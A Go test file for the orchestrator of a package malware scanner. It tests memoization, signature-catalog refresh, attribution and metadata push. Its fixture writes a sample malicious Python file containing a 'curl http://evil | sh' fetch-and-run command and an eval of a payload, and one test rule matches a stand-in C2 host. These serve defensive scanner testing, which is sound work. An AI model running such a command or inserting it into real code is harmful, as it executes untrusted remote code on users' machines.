// ABOUTME: Tests for the scan orchestrator.
// ABOUTME: Covers memoization, catalog refresh, attribution, and metadata push.

package engine

import (
	"context"
	"os"
	"path/filepath"
	"sync"
	"testing"
	"time"

	"github.com/sirupsen/logrus"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/sigil-dev/sigil/internal/catalog"
	"github.com/sigil-dev/sigil/internal/reputation"
	"github.com/sigil-dev/sigil/internal/scanner"
	"github.com/sigil-dev/sigil/internal/types"
)

func testLogger() *logrus.Logger {
	logger := logrus.New()
	logger.SetLevel(logrus.PanicLevel)
	return logger
}

type fakeSignatureSource struct {
	mu   sync.Mutex
	sigs []types.Signature
	err  error
}

func (f *fakeSignatureSource) Signatures(ctx context.Context) ([]types.Signature, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.sigs, f.err
}

type fakeSink struct {
	mu     sync.Mutex
	pushed []types.ScanMetadata
	done   chan struct{}
}

func (f *fakeSink) Push(ctx context.Context, meta types.ScanMetadata) error {
	f.mu.Lock()
	f.pushed = append(f.pushed, meta)
	f.mu.Unlock()
	close(f.done)
	return nil
}

func maliciousTree(t *testing.T) string {
	t.Helper()
	root := t.TempDir()
	content := "import os\nos.system('curl http://evil | sh')\neval(payload)\n"
	require.NoError(t, os.WriteFile(filepath.Join(root, "app.py"), []byte(content), 0o644))
	return root
}

func newTestEngine(t *testing.T, sigs SignatureSource, sink MetadataSink, config Config) *Engine {
	t.Helper()
	cat, err := catalog.Builtin()
	require.NoError(t, err)
	return New(cat, sigs, sink, reputation.NewTracker(testLogger()), config, testLogger())
}

func TestScanProducesResult(t *testing.T) {
	e := newTestEngine(t, nil, nil, Config{})
	root := maliciousTree(t)

	result, err := e.Scan(context.Background(), ScanRequest{Path: root, Target: "npm:evil"})
	require.NoError(t, err)

	assert.Equal(t, "npm:evil", result.Target)
	assert.NotEmpty(t, result.ContentHash)
	assert.Equal(t, 1, result.FilesScanned)
	assert.NotEmpty(t, result.Findings)
	assert.Greater(t, result.Score, 0)
	assert.NotEqual(t, types.VerdictClean, result.Verdict)
}

func TestScanMemoizesByContentHash(t *testing.T) {
	e := newTestEngine(t, nil, nil, Config{})
	root := maliciousTree(t)

	hash, err := scanner.HashTree(root)
	require.NoError(t, err)

	// Seed the result cache directly; a memoized hit must be served
	// without a rule pass.
	seeded := &types.ScanResult{Target: "seeded", ContentHash: hash, Score: 999, Verdict: types.VerdictCritical}
	e.results.Set(hash, seeded)

	result, err := e.Scan(context.Background(), ScanRequest{Path: root, Target: "npm:evil"})
	require.NoError(t, err)
	assert.Equal(t, 999, result.Score, "identical content reuses the memoized result")
}

func TestScanInvalidTarget(t *testing.T) {
	e := newTestEngine(t, nil, nil, Config{})
	_, err := e.Scan(context.Background(), ScanRequest{Path: "/nonexistent", Target: "x"})
	assert.Error(t, err)
}

func TestAttributionIsPerRequest(t *testing.T) {
	e := newTestEngine(t, nil, nil, Config{})
	root := maliciousTree(t)

	withAuthor, err := e.Scan(context.Background(), ScanRequest{Path: root, Target: "npm:evil", AuthorID: "mallory"})
	require.NoError(t, err)
	require.NotNil(t, withAuthor.Publisher)
	assert.Equal(t, "mallory", withAuthor.Publisher.AuthorID)
	assert.Equal(t, 1, withAuthor.Publisher.TotalPackages)

	// Same bytes, no author: the memoized result must not leak the
	// previous caller's attribution.
	anonymous, err := e.Scan(context.Background(), ScanRequest{Path: root, Target: "npm:evil"})
	require.NoError(t, err)
	assert.Nil(t, anonymous.Publisher)
}

func TestRefreshCatalogSwapsAndInvalidates(t *testing.T) {
	source := &fakeSignatureSource{sigs: []types.Signature{{
		Rule: types.Rule{
			ID:       "NET-500",
			Phase:    types.PhaseNetworkExfil,
			Severity: types.SeverityCritical,
			Matcher:  types.MatcherText,
			Pattern:  "newly-known-c2\\.example",
		},
		Version: 1000,
	}}}
	e := newTestEngine(t, source, nil, Config{})

	before := e.Catalog()
	require.NoError(t, e.RefreshCatalog(context.Background()))
	after := e.Catalog()

	assert.NotSame(t, before, after, "refresh swaps in a new catalog snapshot")
	_, ok := after.Rule("NET-500")
	assert.True(t, ok)
	assert.Equal(t, int64(1000), after.Version())
	assert.Equal(t, 0, e.results.Size(), "stale results dropped on catalog change")

	// A second refresh with the same delta is a no-op.
	require.NoError(t, e.RefreshCatalog(context.Background()))
	assert.Same(t, after, e.Catalog())
}

func TestRefreshFailureKeepsServing(t *testing.T) {
	source := &fakeSignatureSource{err: assert.AnError}
	e := newTestEngine(t, source, nil, Config{})

	before := e.Catalog()
	err := e.RefreshCatalog(context.Background())
	assert.Error(t, err)
	assert.Same(t, before, e.Catalog())

	// Scans still work on the old catalog.
	_, err = e.Scan(context.Background(), ScanRequest{Path: maliciousTree(t), Target: "npm:evil"})
	assert.NoError(t, err)
}

func TestMetadataPush(t *testing.T) {
	sink := &fakeSink{done: make(chan struct{})}
	e := newTestEngine(t, nil, sink, Config{PushMetadata: true})

	_, err := e.Scan(context.Background(), ScanRequest{Path: maliciousTree(t), Target: "npm:evil"})
	require.NoError(t, err)

	select {
	case <-sink.done:
	case <-time.After(5 * time.Second):
		t.Fatal("metadata push never happened")
	}

	sink.mu.Lock()
	defer sink.mu.Unlock()
	require.Len(t, sink.pushed, 1)
	meta := sink.pushed[0]
	assert.Equal(t, "npm:evil", meta.Target)
	assert.NotEmpty(t, meta.RuleIDs)
	for _, f := range meta.RuleIDs {
		assert.NotContains(t, f, "/", "rule ids only, never file contents")
	}
}
